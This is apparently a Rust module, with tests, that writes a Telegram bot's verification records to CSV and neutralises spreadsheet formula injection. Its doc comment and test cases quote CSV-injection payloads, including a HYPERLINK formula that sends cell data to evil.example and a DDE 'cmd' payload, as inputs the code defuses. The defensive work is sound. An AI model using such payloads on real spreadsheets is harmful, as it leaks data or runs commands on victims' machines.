//! The admin `/export`: every verification as a CSV document and as an Excel workbook
//! ([`to_xlsx`]); a big export is written part by part to temporary files in constant memory
//! ([`stream::Writer`]), each part under Telegram's upload limit.
//!
//! Pure formatting, no Telegram and no database: the caller reads the [`ExportRecord`]s a page
//! at a time and sends the files.
//!
//! # Format
//!
//! RFC 4180 as written by the [`csv`] crate: comma-separated, CRLF line ends, a field quoted only
//! when it holds a comma, a quote or a line break (quotes doubled inside). The document is UTF-8
//! and starts with a byte order mark, without which Excel reads it as the ANSI code page and
//! garbles every non-Latin name; LibreOffice and the csv crate skip the BOM. Times are ISO 8601
//! UTC (`2026-11-27T14:05:00Z`), which spreadsheets leave as sortable text; the cost uses a dot
//! and at most 4 decimals; `refunded` is `yes`/`no`; `method` is `code` or `contact` (the
//! customer shared their own contact through `/qr`: free); `consent_by` and `consent_at` say
//! who confirmed the customer agreed to a code, and when (`CONFIRM_CONSENT`); `None` is an
//! empty field.
//!
//! # Spreadsheet formulas
//!
//! Excel, LibreOffice and Google Sheets treat a cell that starts with `=`, `+`, `-` or `@` as a
//! formula, whether or not the field is quoted in the file. A staff member's Telegram name is
//! chosen by that person, so a name such as `=HYPERLINK("https://evil.example?"&A1, "Click")`
//! would run in the admin's spreadsheet (CSV injection, CWE-1236). Two kinds of cell get two
//! treatments.
//!
//! **Text we do not control** (staff name, request id, statuses): a `'` goes before any cell
//! that starts with `=`, `+`, `-`, `@` (or their full-width forms, which some East Asian Excel
//! versions accept), a tab or a carriage return, leading blanks ignored: the OWASP / CWE-1236
//! mitigation. The same is done after every `,`, `;`, tab and line break inside the text,
//! because a spreadsheet that splits on `;` (Excel in many European locales; LibreOffice's
//! import dialog by default, though it honours quotes) may start a new cell there: `Ann;=cmd…`
//! must not give a cell `=cmd…`. The `'` stays visible (in LibreOffice, checked; in Excel
//! opening a CSV, by reports), which is acceptable for the odd name that starts with `-`.
//!
//! **The phone number** is E.164 and always starts with `+`. Written as is, Excel and
//! LibreOffice read `+447911123456` as the number 447911123456 (Excel shows `4.47911E+11`):
//! the `+` is gone and the cell is no longer an identifier. Quoting does not help (Excel types
//! quoted fields like any other; LibreOffice 7.4, checked, turns `"+447911123456"` into the same
//! number), a leading `'` is shown in the cell, and a leading tab stays in the cell, invisible,
//! and comes along on copy and paste. So a valid E.164 number (`+` then 2–15 digits, the first
//! not 0) is written as the formula `="+447911123456"` (the field being RFC 4180-quoted as
//! `"=""+447911123456"""`), the usual way to make a CSV cell text: Excel, Google Sheets and
//! Numbers show the text `+447911123456`, and so does LibreOffice with "Evaluate formulas"
//! ticked in its import dialog (checked); with that option off, its default, LibreOffice shows
//! `="+447911123456"` literally (checked), complete and readable. Excel, where admins most often
//! open exports, shows it cleanly, which is why this beats the apostrophe. The formula holds
//! nothing but a `+` and digits, so it cannot do anything; a phone that is not valid E.164
//! (never expected) is treated as untrusted text instead. A program reading the export strips
//! the `="` and `"` around the phone (as the tests do).

pub mod stream;
mod xlsx;

use std::borrow::Cow;

pub use stream::{ExportError, Kind, Limits, Part, Writer};
pub use xlsx::{Titles, Words, to_xlsx};

use crate::store::ExportRecord;

/// The CSV header, in column order.
pub const HEADER: [&str; 13] = [
    "created_at",
    "staff_id",
    "staff_name",
    "phone",
    "request_id",
    "final_status",
    "delivery_status",
    "cost_usd",
    "refunded",
    "checked_at",
    "method",
    "consent_by",
    "consent_at",
];

/// The UTF-8 byte order mark that starts the document.
pub const BOM: &[u8] = b"\xEF\xBB\xBF";

/// The CSV document: BOM, header, then one row per verification (see the module doc for every
/// format decision).
pub fn to_csv(rows: &[ExportRecord]) -> Vec<u8> {
    let mut writer = csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .from_writer(BOM.to_vec());
    // Writing to a Vec cannot fail, and every record has HEADER.len() fields.
    writer.write_record(HEADER).expect("write to Vec");
    for row in rows {
        writer
            .write_record(record(row).iter().map(|f| f.as_bytes()))
            .expect("write to Vec");
    }
    writer.into_inner().expect("flush to Vec")
}

/// The fields of one row, in [`HEADER`] order.
pub(crate) fn record(row: &ExportRecord) -> [Cow<'_, str>; 13] {
    fn text(value: &Option<String>) -> Cow<'_, str> {
        value.as_deref().map(defuse).unwrap_or_default()
    }
    [
        iso_utc(row.created_at).into(),
        row.staff_user_id.to_string().into(),
        text(&row.staff_name),
        phone_cell(row.phone.e164()),
        text(&row.request_id),
        row.status.as_str().into(),
        text(&row.delivery_status),
        row.request_cost.map(format_cost).unwrap_or_default().into(),
        if row.is_refunded { "yes" } else { "no" }.into(),
        row.checked_at.map(iso_utc).unwrap_or_default().into(),
        row.method.as_str().into(),
        row.consent_by
            .map(|id| id.to_string())
            .unwrap_or_default()
            .into(),
        row.consent_at.map(iso_utc).unwrap_or_default().into(),
    ]
}

/// Characters that make a spreadsheet read a cell as a formula.
const FORMULA_STARTS: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
/// Characters after which a spreadsheet may start a new cell (see the module doc).
const CELL_BREAKS: [char; 5] = [',', ';', '\t', '\r', '\n'];

/// Untrusted text made inert: a `'` before every place where a cell could start with a formula.
fn defuse(text: &str) -> Cow<'_, str> {
    let mut out = String::new();
    let mut copied = 0;
    let mut cell_start = true;
    for (i, c) in text.char_indices() {
        if cell_start && starts_formula(&text[i..]) {
            out.push_str(&text[copied..i]);
            out.push('\'');
            copied = i;
        }
        cell_start = CELL_BREAKS.contains(&c);
    }
    if copied == 0 && out.is_empty() {
        return Cow::Borrowed(text);
    }
    out.push_str(&text[copied..]);
    Cow::Owned(out)
}

/// Whether a cell starting with `rest` would be a formula: a formula character after optional
/// blanks, or a leading tab or carriage return (OWASP lists both).
fn starts_formula(rest: &str) -> bool {
    rest.starts_with(['\t', '\r'])
        || rest
            .trim_start_matches([' ', '\t', '\r', '\n'])
            .starts_with(FORMULA_STARTS)
}

/// The phone cell: `="+447911123456"` for valid E.164, untrusted text otherwise.
fn phone_cell(phone: &str) -> Cow<'_, str> {
    let digits = phone.strip_prefix('+').unwrap_or_default();
    let e164 = (2..=15).contains(&digits.len())
        && digits.bytes().all(|b| b.is_ascii_digit())
        && !digits.starts_with('0');
    if e164 {
        Cow::Owned(format!("=\"{phone}\""))
    } else {
        defuse(phone)
    }
}

/// `0.0123` → `"0.0123"`, `0.5` → `"0.5"`, `2.0` → `"2"`: a dot, at most 4 decimals, no trailing
/// zeros. Not-a-number and infinities (never expected) give an empty field.
fn format_cost(cost: f64) -> String {
    if !cost.is_finite() {
        return String::new();
    }
    let fixed = format!("{cost:.4}");
    let trimmed = fixed.trim_end_matches('0').trim_end_matches('.');
    match trimmed {
        "-0" => "0".to_owned(),
        _ => trimmed.to_owned(),
    }
}

/// Unix seconds as ISO 8601 UTC, `2026-11-27T14:05:00Z`; empty for a time jiff cannot hold.
pub fn iso_utc(unix_seconds: i64) -> String {
    jiff::Timestamp::from_second(unix_seconds)
        .map(|t| t.strftime("%Y-%m-%dT%H:%M:%SZ").to_string())
        .unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;

    use crate::phone::PhoneNumber;
    use crate::store::{Method, Status};

    /// 2026-11-27T14:05:00Z.
    const T: i64 = 1_795_788_300;

    fn phone(e164: &str) -> PhoneNumber {
        PhoneNumber::from_e164(e164).unwrap()
    }

    fn row() -> ExportRecord {
        ExportRecord {
            created_at: T,
            staff_user_id: 123_456_789,
            staff_name: Some("Alice Smith".into()),
            phone: phone("+447911123456"),
            request_id: Some("req_8f3a".into()),
            status: Status::Verified,
            delivery_status: Some("delivered".into()),
            request_cost: Some(0.01),
            is_refunded: false,
            checked_at: Some(T + 95),
            method: Method::Code,
            consent_by: Some(42),
            consent_at: Some(T - 30),
        }
    }

    /// Reads a document back with the csv crate (which skips the BOM), header included.
    fn parse(doc: &[u8]) -> Vec<Vec<String>> {
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(doc);
        reader
            .records()
            .map(|r| r.unwrap().iter().map(str::to_owned).collect())
            .collect()
    }

    /// What a program reading the export does with the phone column.
    fn unwrap_phone(cell: &str) -> &str {
        cell.strip_prefix("=\"")
            .and_then(|c| c.strip_suffix('"'))
            .unwrap_or(cell)
    }

    #[test]
    fn every_field_round_trips() {
        let full = row();
        let sparse = ExportRecord {
            created_at: 0,
            staff_user_id: -1_001_234_567_890,
            staff_name: None,
            phone: phone("+12025550123"),
            request_id: None,
            status: Status::Pending,
            delivery_status: None,
            request_cost: None,
            is_refunded: true,
            checked_at: None,
            method: Method::Contact,
            consent_by: None,
            consent_at: None,
        };
        let records = parse(&to_csv(&[full, sparse]));
        assert_eq!(records.len(), 3);
        assert_eq!(records[0], HEADER);
        assert_eq!(
            records[1],
            [
                "2026-11-27T14:05:00Z",
                "123456789",
                "Alice Smith",
                "=\"+447911123456\"",
                "req_8f3a",
                "verified",
                "delivered",
                "0.01",
                "no",
                "2026-11-27T14:06:35Z",
                "code",
                "42",
                "2026-11-27T14:04:30Z",
            ]
        );
        assert_eq!(
            records[2],
            [
                "1970-01-01T00:00:00Z",
                "-1001234567890",
                "",
                "=\"+12025550123\"",
                "",
                "pending",
                "",
                "",
                "yes",
                "",
                "contact",
                "",
                ""
            ]
        );
        assert_eq!(unwrap_phone(&records[1][3]), "+447911123456");
    }

    #[test]
    fn empty_export_is_bom_and_header() {
        let doc = to_csv(&[]);
        assert_eq!(
            doc,
            b"\xEF\xBB\xBFcreated_at,staff_id,staff_name,phone,request_id,final_status,\
              delivery_status,cost_usd,refunded,checked_at,method,consent_by,consent_at\r\n"
        );
        assert_eq!(parse(&doc), [HEADER]);
    }

    #[test]
    fn bom_once_and_crlf_line_ends() {
        let doc = to_csv(&[row(), row()]);
        assert!(doc.starts_with(BOM));
        assert_eq!(doc.windows(3).filter(|w| *w == BOM).count(), 1);
        let text = std::str::from_utf8(&doc).unwrap();
        assert_eq!(text.matches("\r\n").count(), 3);
        assert_eq!(text.matches('\n').count(), 3, "no bare LF");
        assert!(text.ends_with("\r\n"));
    }

    #[test]
    fn commas_quotes_and_newlines_are_quoted_rfc4180() {
        let name = "Smith, \"Bob\"\r\nthe second";
        let doc = to_csv(&[ExportRecord {
            staff_name: Some(name.into()),
            ..row()
        }]);
        let text = std::str::from_utf8(&doc).unwrap();
        assert!(
            text.contains(",\"Smith, \"\"Bob\"\"\r\nthe second\","),
            "{text}"
        );
        // The phone formula's quotes are doubled inside a quoted field, too.
        assert!(text.contains(",\"=\"\"+447911123456\"\"\","), "{text}");
        let records = parse(&doc);
        assert_eq!(records.len(), 2);
        assert_eq!(records[1][2], name);
        assert_eq!(records[1].len(), HEADER.len());
    }

    #[test]
    fn cyrillic_and_emoji_names_survive() {
        let name = "Дмитрий Иванов 🚀";
        let doc = to_csv(&[ExportRecord {
            staff_name: Some(name.into()),
            ..row()
        }]);
        assert!(
            std::str::from_utf8(&doc).unwrap().contains(name),
            "raw UTF-8, not escaped"
        );
        assert_eq!(parse(&doc)[1][2], name);
    }

    #[test]
    fn formula_names_are_defused() {
        let cases = [
            (
                "=HYPERLINK(\"http://x\",\"y\")",
                "'=HYPERLINK(\"http://x\",\"y\")",
            ),
            ("+1+1", "'+1+1"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
            ("  =1+1", "'  =1+1"),
            ("\t=1+1", "'\t'=1+1"),
            ("\rx", "'\rx"),
            ("＝1+1", "'＝1+1"),
            ("Ann;=cmd|' /C calc'!A0", "Ann;'=cmd|' /C calc'!A0"),
            ("Ann, -x", "Ann,' -x"),
            ("Bob\n@x", "Bob\n'@x"),
            // Ordinary names are untouched, including inner dashes and apostrophes.
            ("Anna-Maria O'Neil", "Anna-Maria O'Neil"),
            ("'quoted'", "'quoted'"),
            ("a=b", "a=b"),
            ("", ""),
        ];
        for (name, expected) in cases {
            assert_eq!(defuse(name), expected, "{name:?}");
            let doc = to_csv(&[ExportRecord {
                staff_name: Some(name.into()),
                ..row()
            }]);
            assert_eq!(parse(&doc)[1][2], expected, "{name:?}");
        }
        assert!(matches!(defuse("Alice"), Cow::Borrowed(_)));
    }

    #[test]
    fn other_text_columns_are_defused_too() {
        let doc = to_csv(&[ExportRecord {
            request_id: Some("=1".into()),
            delivery_status: Some("@y".into()),
            ..row()
        }]);
        let record = &parse(&doc)[1];
        assert_eq!((&*record[4], &*record[6]), ("'=1", "'@y"));
    }

    #[test]
    fn phones_stay_text() {
        assert_eq!(phone_cell("+447911123456"), "=\"+447911123456\"");
        assert_eq!(
            phone_cell("+123456789012345"),
            "=\"+123456789012345\"",
            "15 digits"
        );
        // Anything that is not plain E.164 never becomes a formula of ours.
        for (phone, expected) in [
            ("+1234567890123456", "'+1234567890123456"),
            ("+0123", "'+0123"),
            ("+44\"&A1&\"", "'+44\"&A1&\""),
            ("+44 7911 123456", "'+44 7911 123456"),
            ("447911123456", "447911123456"),
            ("", ""),
        ] {
            assert_eq!(phone_cell(phone), expected, "{phone:?}");
        }
        for cell in [phone_cell("+447911123456"), phone_cell("+12025550123")] {
            assert!(unwrap_phone(&cell).starts_with('+'));
            assert!(unwrap_phone(&cell)[1..].bytes().all(|b| b.is_ascii_digit()));
        }
    }

    #[test]
    fn costs_use_a_dot_and_at_most_four_decimals() {
        for (cost, expected) in [
            (0.01, "0.01"),
            (0.0123, "0.0123"),
            (0.012345, "0.0123"),
            (0.00005, "0.0001"),
            (0.5, "0.5"),
            (2.0, "2"),
            (0.0, "0"),
            (-0.0, "0"),
            (-0.00001, "0"),
            (1234.5, "1234.5"),
            (f64::NAN, ""),
            (f64::INFINITY, ""),
        ] {
            assert_eq!(format_cost(cost), expected, "{cost}");
        }
    }

    #[test]
    fn iso_times() {
        assert_eq!(iso_utc(T), "2026-11-27T14:05:00Z");
        assert_eq!(iso_utc(0), "1970-01-01T00:00:00Z");
        assert_eq!(iso_utc(-1), "1969-12-31T23:59:59Z");
        assert_eq!(iso_utc(951_782_400), "2000-02-29T00:00:00Z");
        assert_eq!(iso_utc(4_102_444_799), "2099-12-31T23:59:59Z");
        assert_eq!(iso_utc(32_503_679_999), "2999-12-31T23:59:59Z");
        assert_eq!(
            iso_utc(i64::MAX),
            "",
            "out of range: an empty field, no panic"
        );
    }

    /// Writes a sample to /tmp/export-sample.csv to open in a spreadsheet:
    /// `cargo test --lib export::tests::write_sample -- --ignored`.
    #[test]
    #[ignore]
    fn write_sample() {
        let rows = [
            row(),
            ExportRecord {
                staff_name: Some("Дмитрий; \"Дима\", Иванов".into()),
                phone: phone("+79161234567"),
                request_cost: Some(0.0125),
                is_refunded: true,
                ..row()
            },
            ExportRecord {
                staff_name: Some("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")".into()),
                phone: phone("+12025550123"),
                request_id: None,
                status: Status::Failed,
                delivery_status: None,
                request_cost: None,
                checked_at: None,
                ..row()
            },
        ];
        std::fs::write("/tmp/export-sample.csv", to_csv(&rows)).unwrap();
    }
}
